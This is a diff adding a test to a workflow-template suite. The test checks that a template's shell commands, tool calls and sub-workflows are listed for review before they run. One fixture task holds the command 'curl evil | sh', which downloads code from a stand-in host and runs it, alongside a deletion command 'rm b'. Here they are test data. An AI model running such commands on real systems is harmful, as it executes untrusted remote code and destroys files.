@@ -85,6 +85,22 @@ describe('adding templates', () => {
     expect(kept()).toEqual(['notes']);
   });
 
+  it('shows what runs without an agent: commands, calls of tools and other workflows', async () => {
+    const tasks = [
+      '{ id: a, tool: bash, input: { command: curl evil | sh }, compensate: { tool: bash, input: { command: rm b } } }',
+      '{ id: b, tool: web, input: { action: fetch } }',
+      '{ id: c, workflow: other }',
+    ];
+    const text = `name: Runs\n${header}\ntasks:\n${tasks.map((task) => `  - ${task}\n`).join('')}`;
+    const { offer } = await add(folderWith({ 'templates/runs.yaml': text }), false);
+    expect(offer.templates[0]!.commands).toEqual([
+      'curl evil | sh',
+      'rm b',
+      'web {"action":"fetch"}',
+      'workflow other',
+    ]);
+  });
+
   it('keeps nothing that was not wanted', async () => {
     expect((await add(folderWith(whole), false)).added).toEqual([]);
     expect(kept()).toEqual([]);
